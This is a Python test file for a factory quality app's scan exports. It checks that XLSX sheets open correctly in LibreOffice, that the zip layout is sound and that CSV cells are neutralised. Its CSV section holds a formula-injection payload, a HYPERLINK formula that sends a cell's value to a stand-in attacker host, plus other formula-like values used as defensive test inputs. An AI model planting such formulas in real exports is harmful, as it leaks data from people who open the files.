"""The XLSX export as spreadsheet applications take it: LibreOffice opens it
and shows exactly the filtered rows (Romanian words, special characters, codes
that look like numbers kept as text, times as dates shown in ISO 8601 with the
plant's offset); rows beyond a sheet's last row go on to the next sheet; and
the zip has the shape Excel opens without repair: no entry carries ZIP64
fields, local headers and central directory agree, and a file past the ZIP64
limit gets ZIP64 only where the zip specification puts it. And the CSV export
as LibreOffice opens it: no cell a formula, whatever a defect's name or a code
starts with."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
import struct
import subprocess
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from starlette.testclient import TestClient

from quality.db import Database
from quality.demo import fill
from quality.http.exporter import Exporter
from quality.pages.scan_list.export import csv_values, row_values, words, xlsx_chunks
from quality.pages.scan_list.queries import all_rows, scan_row
from quality.pages.scan_list.xlsx import WorkbookStream
from quality.scan_filter import read_filter
from quality.scans.store import ScanRow, save_scan
from quality.settings import Settings
from tests.conftest import UTC_SHIFTS, database_for, execute, login, run_async
from tests.test_scan_list import PLANT_SHIFTS, ZONE, all_scans, plant_settings
from tests.test_scans_store import scan_input
from tests.test_stations import post_scan, signed_in

# A defect name with what a spreadsheet or an XML writer could get wrong.
AWKWARD_NAME = 'Zgârietură „adâncă” & <fisură> "x", 50%; ȘȚ'


@pytest.fixture
def settings(db_url: Any) -> Settings:
    return plant_settings(db_url)


def soffice(source: Path, target: str, profile: Path, *options: str) -> str:
    """Convert with LibreOffice in its own profile directory (parallel runs
    must not share one), bounded in time; what it printed."""
    assert shutil.which("soffice"), "LibreOffice is missing: run scripts/setup --test"
    return subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", *options,
                           "--convert-to", target, "--outdir", str(source.parent), str(source)],
                          check=True, timeout=240, capture_output=True, text=True).stdout


def libreoffice_sheets(path: Path, tmp_path: Path) -> dict[str, list[list[str]]]:
    """Every sheet as LibreOffice shows it, through its CSV export: UTF-8,
    cells as shown, all sheets (one file each)."""
    printed = soffice(path, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
                      tmp_path / "profile")
    sheets = {}
    # It prints "Writing sheet <name> -> <file>" for each sheet, in order.
    for name, csv_path in re.findall(r"^Writing sheet (.+) -> (.+)$", printed, re.MULTILINE):
        with open(csv_path, encoding="utf-8", newline="") as file:
            sheets[name] = list(csv.reader(file))
    return sheets


def libreoffice_cell_types(path: Path, tmp_path: Path) -> list[list[str]]:
    """The value type LibreOffice gave each non-empty cell of the first sheet."""
    soffice(path, "fods", tmp_path / "profile")
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    root = ElementTree.parse(path.with_suffix(".fods")).getroot()
    sheet = root.find(f".//{{{table}}}table")
    assert sheet is not None
    return [[cell.get(f"{{{office}}}value-type", "") for cell in row.iter(f"{{{table}}}table-cell")
             if cell.get(f"{{{office}}}value-type")]
            for row in sheet.iter(f"{{{table}}}table-row")]


def test_libreoffice_opens_the_export_with_the_filtered_rows(client: TestClient, make_user: Any,
                                                             db_url: Any, tmp_path: Path) -> None:
    run_async(execute(db_url, f"UPDATE defect_codes SET name = '{AWKWARD_NAME}', name_ro = '{AWKWARD_NAME}'"
                              " WHERE code = '104'"))

    async def seed() -> None:
        db = database_for(db_url, query_timeout=60)
        try:
            await fill(db, 600, 3, PLANT_SHIFTS, seed=7)
            # The demo's defect mix follows the clock: make sure the awkward name is in the range.
            await save_scan(db, "quality", scan_input("CP99999999-0001", "104"), 1, UTC_SHIFTS)
        finally:
            await db.close()

    run_async(seed())
    make_user("sue", "supervisor")
    run_async(execute(db_url, "UPDATE users SET language = 'ro' WHERE username = 'sue'"))
    login(client, "sue")
    since = (datetime.now(ZONE) - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")
    params = {"station": "quality", "from": since}

    answer = client.get("/scans/export.xlsx", params=params)
    assert answer.status_code == 200
    path = tmp_path / "export.xlsx"
    path.write_bytes(answer.content)
    sheets = libreoffice_sheets(path, tmp_path)

    # The sheet's name and headers are Romanian, like the user's pages.
    assert list(sheets) == ["Scanări"]
    rows = sheets["Scanări"]
    assert rows[0] == ["Ora", "Post", "Operator", "Piesă", "Comandă", "Controlor 1", "Controlor 2",
                       "Cod defect", "Defect", "Verdict", "Rescanare"]
    # Cell for cell what the CSV export of the same filter holds (test_lists
    # checks that against the database); times as ISO 8601 with the offset.
    exported = list(csv.reader(io.StringIO(client.get("/scans/export.csv", params=params)
                                           .content.decode("utf-8-sig"))))
    assert rows == exported
    since = datetime.fromisoformat(params["from"]).replace(tzinfo=ZONE)
    want = sorted((s for s in run_async(scans_of(db_url)) if s.station == "quality" and s.local >= since),
                  key=lambda s: (s.created_at, s.id), reverse=True)
    assert [[r[0], r[2], r[3], r[7]] for r in rows[1:]] == [
        [s.local.isoformat(timespec="seconds"), s.operator, s.piece, s.defect] for s in want]
    assert {r[9] for r in rows[1:]} == {"Aprobat", "Respins"}
    assert "000" in {r[7] for r in rows[1:]}  # a code of digits stays text: no number 0
    assert AWKWARD_NAME in {r[8] for r in rows[1:]}
    assert {r[1] for r in rows[1:]} == {"Scanare calitate"}

    # Times are dates to the spreadsheet (sortable, filterable); the rest text.
    types = libreoffice_cell_types(path, tmp_path)
    assert types[0] == ["string"] * 11
    assert all(row[0] == "date" and set(row[1:]) == {"string"} for row in types[1:len(rows)])


async def scans_of(db_url: Any) -> list[Any]:
    db = database_for(db_url)
    try:
        return await all_scans(db)
    finally:
        await db.close()


async def test_rows_past_a_sheets_last_row_go_on_to_the_next_sheet(db: Database, settings: Settings,
                                                                   tmp_path: Path) -> None:
    await fill(db, 100, 2, PLANT_SHIFTS, seed=3)
    scan_filter = read_filter({}, settings).filter
    everything = [scan_row(values) async for batch in all_rows(db, scan_filter) for values in batch]
    english = words("en")
    batches = all_rows(db, scan_filter, batch=30)
    # 40 rows a sheet: the header and 39 scans, as Excel's 1,048,576 would be.
    exporter = Exporter(1, 1)
    body = b"".join([chunk async for chunk in xlsx_chunks(await anext(batches), batches, ZONE, english,
                                                          exporter.format, sheet_rows=40)])
    exporter.close()
    book = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    assert book.sheetnames == ["Scans", "Scans (2)", "Scans (3)"]
    data = []
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == english.header and len(rows) <= 40
        data += rows[1:]
    want = [row_values(row, ZONE, english) for row in everything]
    assert [[value or "" for value in row] + [""] * (11 - len(row)) for row in data] == [
        [want_row[0].replace(tzinfo=None), *want_row[1:]] for want_row in want]

    path = tmp_path / "sheets.xlsx"
    path.write_bytes(body)
    shown = libreoffice_sheets(path, tmp_path)
    assert list(shown) == ["Scans", "Scans (2)", "Scans (3)"]
    assert [len(rows) for rows in shown.values()] == [40, 40, 23]
    assert [row[0] for rows in shown.values() for row in rows[1:]] == [
        row[0].isoformat() for row in want]


@dataclass
class Entry:
    name: str
    flags: int
    needed: int
    crc: int
    compressed: int
    size: int
    offset: int
    extra: bytes


def central_directory(body: bytes) -> tuple[list[Entry], int, bool]:
    """The central directory's entries, where it starts, and whether the
    file has ZIP64 end records."""
    end = body.rindex(b"PK\x05\x06")
    entries_count, directory_size, directory_at = struct.unpack("<HII", body[end + 10:end + 20])
    zip64 = body[end - 20:end - 16] == b"PK\x06\x07"
    if zip64:
        (record_at,) = struct.unpack("<Q", body[end - 12:end - 4])
        assert body[record_at:record_at + 4] == b"PK\x06\x06"
        entries_count, directory_size, directory_at = struct.unpack(
            "<QQQ", body[record_at + 32:record_at + 56])
    entries, at = [], directory_at
    for _ in range(entries_count):
        assert body[at:at + 4] == b"PK\x01\x02"
        (needed, flags, crc, compressed, size, name_length, extra_length, comment_length,
         offset) = struct.unpack("<2xHH6xIIIHHH8xI", body[at + 4:at + 46])
        name = body[at + 46:at + 46 + name_length].decode()
        extra = body[at + 46 + name_length:at + 46 + name_length + extra_length]
        if offset == 0xFFFFFFFF:  # the real offset is in the ZIP64 extra field
            assert extra[:4] == struct.pack("<HH", 1, 8)
            (offset,) = struct.unpack("<Q", extra[4:12])
        entries.append(Entry(name, flags, needed, crc, compressed, size, offset, extra))
        at += 46 + name_length + extra_length + comment_length
    assert at == directory_at + directory_size
    return entries, directory_at, zip64


def check_local_headers(body: bytes, entries: list[Entry], directory_at: int) -> None:
    """Each entry's local header: no ZIP64 (no extra field at all), version
    2.0, sizes left to a 32-bit data descriptor that agrees with the central
    directory; the entries follow each other up to the central directory."""
    expected_at = 0
    for entry in entries:
        at = entry.offset
        assert at == expected_at, entry.name
        assert body[at:at + 4] == b"PK\x03\x04"
        needed, flags, crc, compressed, size, name_length, extra_length = struct.unpack(
            "<HH6xIIIHH", body[at + 4:at + 30])
        assert (needed, extra_length) == (20, 0), entry.name
        assert flags == entry.flags and flags & 0x08, entry.name  # sizes in a data descriptor
        assert (crc, compressed, size) == (0, 0, 0), entry.name
        assert body[at + 30:at + 30 + name_length].decode() == entry.name
        descriptor_at = at + 30 + name_length + entry.compressed
        assert body[descriptor_at:descriptor_at + 16] == struct.pack(
            "<4sIII", b"PK\x07\x08", entry.crc, entry.compressed, entry.size), entry.name
        expected_at = descriptor_at + 16
    assert expected_at == directory_at


def awkward_rows(count: int) -> list[list[Any]]:
    start = datetime(2026, 3, 29, 0, 30, tzinfo=UTC)  # the night clocks go forward in Bucharest
    return [[(start + timedelta(minutes=7 * n)).astimezone(ZONE), f"{n:06d}", AWKWARD_NAME,
             f"{n * 7919 % 100_003:x}" * 3] for n in range(count)]


def test_an_export_under_4_gib_has_no_zip64_anywhere(tmp_path: Path) -> None:
    book = WorkbookStream(lambda n: f"S{n}", ["Time", "Code", "Name", "Noise"], (20, 10, 30, 30))
    rows = awkward_rows(3000)
    body = book.start() + book.rows(rows) + book.finish()
    entries, directory_at, zip64 = central_directory(body)
    assert not zip64
    assert all(entry.needed == 20 and entry.extra == b"" for entry in entries)
    check_local_headers(body, entries, directory_at)
    assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None
    path = tmp_path / "small.xlsx"
    path.write_bytes(body)
    # Across the night the clocks go forward, each time with its own offset.
    shown = libreoffice_sheets(path, tmp_path)["S1"]
    assert [row[:3] for row in shown[1:]] == [[row[0].isoformat(), row[1], AWKWARD_NAME] for row in rows]
    assert {row[0][-6:] for row in shown[1:]} == {"+02:00", "+03:00"}


def test_past_4_gib_only_the_central_directory_and_its_end_have_zip64() -> None:
    """A file over 4 GiB cannot be made here, so the 32-bit limit is lowered
    to 64 KiB (and with it the sheet's byte budget): sheets still carry no
    ZIP64, entries beyond the limit find their offsets in ZIP64 extra fields
    of the central directory, and the ZIP64 end records are there. (Debian
    12's LibreOffice 7.4 opens no ZIP64 file at all, so only zip readers
    check this one.)"""
    limit = 64 * 1024
    book = WorkbookStream(lambda n: f"Scans ({n})", ["Time", "Code", "Name", "Noise"], (20, 10, 30, 30),
                          sheet_bytes=limit // 10 * 9, zip64_from=limit)
    rows = awkward_rows(6000)
    body = book.start() + book.rows(rows[:2500]) + book.rows(rows[2500:]) + book.finish()
    entries, directory_at, zip64 = central_directory(body)
    assert zip64 and directory_at > limit
    sheets = [entry for entry in entries if entry.name.startswith("xl/worksheets/")]
    assert len(sheets) > 3 and all(limit // 10 * 8 < entry.size <= limit // 10 * 9 for entry in sheets[:-1])
    for entry in entries:
        beyond = entry.offset >= limit
        assert (entry.extra != b"") == beyond and entry.needed == (45 if beyond else 20), entry.name
    check_local_headers(body, entries, directory_at)

    assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None
    read_back = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    assert read_back.sheetnames == [f"Scans ({n})" for n in range(1, len(sheets) + 1)]
    read = [row for sheet in read_back.worksheets for row in list(sheet.iter_rows(values_only=True))[1:]]
    assert [list(row) for row in read] == [[row[0].replace(tzinfo=None), *row[1:]] for row in rows]


# -- CSV cells a spreadsheet would run ------------------------------------------

# What an administrator of the defect catalogue could name a defect: a link
# that sends the cell beside it (an operator code, a piece) to another site.
EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Details")'
# A scan with each text column starting the way a formula starts (codes from
# a plant's own barcode patterns, say).
FORMULA_LIKE = {"operator_code": "=1+2", "piece_code": "+CP00000001-0001", "order_code": "-CP0000000",
                "checker1_code": "@SUM(1+1)", "checker2_code": "\t=3+4", "defect_code": "=5+",
                "defect_name": "\r=6+7"}


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    row = ScanRow(1, "quality", datetime(2026, 5, 4, 10, 0), **FORMULA_LIKE, defect_name_ro="",
                  approved=False, is_rescan=False)
    english = words("en")
    values = csv_values(row, ZONE, english)
    assert values == ["2026-05-04T13:00:00+03:00", "Quality scan",
                      *("'" + value for value in FORMULA_LIKE.values()), "Rejected", ""]
    # The same text in XLSX: inline strings, as typed.
    assert row_values(row, ZONE, english)[2:9] == list(FORMULA_LIKE.values())
    # Codes and names that start otherwise stay exactly as they are.
    plain = dataclasses.replace(row, operator_code="OP01", piece_code="CP00012345-0001",
                                order_code="CP00012345", checker1_code="OC01", checker2_code="OC02",
                                defect_code="104", defect_name="Zgârietură = 2 mm - adâncă @ colț")
    assert csv_values(plain, ZONE, english)[2:9] == [
        "OP01", "CP00012345-0001", "CP00012345", "OC01", "OC02", "104", "Zgârietură = 2 mm - adâncă @ colț"]


def libreoffice_cells(path: Path, tmp_path: Path) -> list[list[tuple[str, str | None]]]:
    """Each cell of a CSV file's first sheet as LibreOffice opens it (UTF-8,
    comma-separated): the text it shows, and its formula if it made one."""
    soffice(path, "fods", tmp_path / "profile", "--infilter=CSV:44,34,76,1")
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"

    def shown(element: ElementTree.Element) -> str:
        parts = [element.text or ""]
        for child in element:
            if child.tag == f"{{{text}}}s":
                parts.append(" " * int(child.get(f"{{{text}}}c", "1")))
            elif child.tag == f"{{{text}}}tab":
                parts.append("\t")
            elif child.tag == f"{{{text}}}line-break":
                parts.append("\n")
            else:
                parts.append(shown(child))
            parts.append(child.tail or "")
        return "".join(parts)

    sheet = ElementTree.parse(path.with_suffix(".fods")).getroot().find(f".//{{{table}}}table")
    assert sheet is not None
    rows = []
    for row in sheet.iter(f"{{{table}}}table-row"):
        cells = []
        for cell in row.iter(f"{{{table}}}table-cell"):
            value = ("\n".join(shown(p) for p in cell.iter(f"{{{text}}}p")), cell.get(f"{{{table}}}formula"))
            cells += [value] * int(cell.get(f"{{{table}}}number-columns-repeated", "1"))
        rows.append(cells)
    return rows


def test_libreoffice_runs_no_formula_from_the_csv_export(client: TestClient, make_user: Any, db_url: Any,
                                                        tmp_path: Path) -> None:
    # The catalogue's administrator names a defect; an operator's scan keeps that name.
    run_async(execute(db_url, f"UPDATE defect_codes SET name = '{EVIL_NAME}' WHERE code = '104'"))
    csrf = signed_in(client, make_user)
    assert post_scan(client, csrf, defect_code="104").status_code == 200
    assert post_scan(client, csrf, piece_code="CP00012345-0002").status_code == 200
    run_async(execute(
        db_url,
        "INSERT INTO defect_codes (code, name) VALUES ('=5+', '\\r=6+7')",
        "INSERT INTO scans (station, submission_id, approved, created_at, created_by, operator_code,"
        " piece_code, order_code, checker1_code, checker2_code, defect_code)"
        " SELECT 'quality', RANDOM_BYTES(16), FALSE, UTC_TIMESTAMP(6), MIN(id), '=1+2', '+CP00000001-0001',"
        " '-CP0000000', '@SUM(1+1)', '\\t=3+4', '=5+' FROM users"))
    make_user("sue", "supervisor")
    login(client, "sue")

    answer = client.get("/scans/export.csv")
    assert answer.status_code == 200
    path = tmp_path / "export.csv"
    path.write_bytes(answer.content)
    rows = libreoffice_cells(path, tmp_path)

    assert [len(row) for row in rows] == [11] * 4
    formulas = [value for row in rows for value, formula in row if formula]
    assert formulas == []
    # Shown as typed, after the apostrophe that makes it text (a carriage
    # return is a line break in a cell).
    newest, plain, evil = ([value for value, _ in row] for row in rows[1:])  # newest first
    assert newest[2:9] == ["'" + value.replace("\r", "\n") for value in FORMULA_LIKE.values()]
    assert evil[3] == "CP00012345-0001" and evil[7:9] == ["104", "'" + EVIL_NAME]
    # Codes that start otherwise stay as they are. (CSV has no cell types: a
    # code of digits, 000, becomes a number; the XLSX export keeps it text.)
    assert plain[2:7] + plain[8:9] == ["OP07", "CP00012345-0002", "CP00012345", "OC12", "OC13", "Approved"]


def test_exports_for_the_reader_open_in_libreoffice_as_a_romanian_reader_expects(
        client: TestClient, make_user: Any, db_url: Any, tmp_path: Path) -> None:
    async def seed() -> None:
        db = database_for(db_url, query_timeout=60)
        try:
            await fill(db, 200, 2, PLANT_SHIFTS, seed=11)
        finally:
            await db.close()

    run_async(seed())
    make_user("sue", "supervisor")
    run_async(execute(db_url, "UPDATE users SET language = 'ro' WHERE username = 'sue'"))
    login(client, "sue")
    params = {"station": "quality"}
    standard = list(csv.reader(io.StringIO(client.get("/scans/export.csv", params=params)
                                           .content.decode("utf-8-sig"))))
    assert len(standard) > 10

    # The spreadsheet CSV: the byte-order mark kept, `;` between values (Romanian
    # writes decimals with a comma), the plant's plain date and time.
    answer = client.get("/scans/export-spreadsheet.csv", params=params)
    assert answer.status_code == 200
    assert answer.content.startswith("\ufeff".encode())
    local = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[1:] for row in local] == [row[1:] for row in standard]
    assert [row[0] for row in local[1:]] == [
        datetime.fromisoformat(row[0]).strftime("%Y-%m-%d %H:%M:%S") for row in standard[1:]]
    path = tmp_path / "spreadsheet.csv"
    path.write_bytes(answer.content)
    # As LibreOffice opens it for a Romanian reader: `;`-separated, UTF-8, ro-RO (1048).
    soffice(path, "fods", tmp_path / "profile", "--infilter=CSV:59,34,76,1,,1048")
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    sheet = ElementTree.parse(path.with_suffix(".fods")).getroot().find(f".//{{{table}}}table")
    assert sheet is not None
    rows = [[cell for cell in row.iter(f"{{{table}}}table-cell") if cell.get(f"{{{office}}}value-type")]
            for row in sheet.iter(f"{{{table}}}table-row")]
    # Eleven columns (the re-scan column is empty unless the scan is one);
    # LibreOffice writes neighbours of the same text as one repeated cell
    # (defect 000's name beside the verdict: both "Aprobat").
    def width(row: list[ElementTree.Element]) -> int:
        return sum(int(cell.get(f"{{{table}}}number-columns-repeated", "1")) for cell in row)

    assert width(rows[0]) == 11 and all(width(row) == 10 + bool(line[10]) for row, line in zip(
        rows[1:len(standard)], standard[1:], strict=True))
    # The times are dates to the spreadsheet, the very moments of the standard export.
    times = [row[0] for row in rows[1:len(standard)]]
    assert {cell.get(f"{{{office}}}value-type") for cell in times} == {"date"}
    # (A moment at midnight it writes as the date alone.)
    assert [_with_time(cell.get(f"{{{office}}}date-value")) for cell in times] == [
        datetime.fromisoformat(row[0]).strftime("%Y-%m-%dT%H:%M:%S") for row in standard[1:]]

    # The XLSX: header row frozen, an autofilter over header and rows, columns
    # at least as wide as their header (and its filter button). (LibreOffice
    # without a window keeps no view settings: the frozen row is read here.)
    answer = client.get("/scans/export.xlsx", params=params)
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = book["Scanări"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:K{len(standard)}"
    for letter, header in zip("ABCDEFGHIJK", standard[0], strict=True):
        assert sheet.column_dimensions[letter].width >= len(header) + 3
    assert sheet.column_dimensions["A"].width >= len("2026-12-04T06:00:00+02:00")
    path = tmp_path / "export.xlsx"
    path.write_bytes(answer.content)
    assert libreoffice_sheets(path, tmp_path)["Scanări"] == standard
    soffice(path, "fods", tmp_path / "profile")
    fods = ElementTree.parse(path.with_suffix(".fods")).getroot()
    ranges = [element for element in fods.iter(f"{{{table}}}database-range")
              if element.get(f"{{{table}}}display-filter-buttons") == "true"]
    assert [element.get(f"{{{table}}}target-range-address") for element in ranges] == [
        f"Scanări.A1:Scanări.K{len(standard)}"]


def _with_time(value: str) -> str:
    return value if "T" in value else value + "T00:00:00"
